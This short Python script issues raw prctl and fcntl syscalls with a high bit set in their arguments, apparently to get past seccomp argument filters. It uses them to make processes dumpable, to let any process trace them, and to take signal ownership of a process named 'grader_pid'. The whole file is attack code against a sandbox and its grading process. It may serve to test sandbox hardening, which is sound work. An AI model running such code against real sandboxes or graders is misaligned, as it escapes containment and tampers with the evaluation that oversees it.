from attack import *

HIGH = 1 << 32
PR_SET_DUMPABLE, PR_SET_SECCOMP, PR_SET_PTRACER = 4, 22, 0x59616D61
reached("dumpable", lambda: syscall(157, 167, PR_SET_DUMPABLE | HIGH, 0, 0, 0, 0))
reached("any tracer", lambda: syscall(157, 167, PR_SET_PTRACER | HIGH, -1, 0, 0, 0))
reached("an owner of signals", lambda: syscall(72, 25, 0, 8 | HIGH, targets.grader_pid))
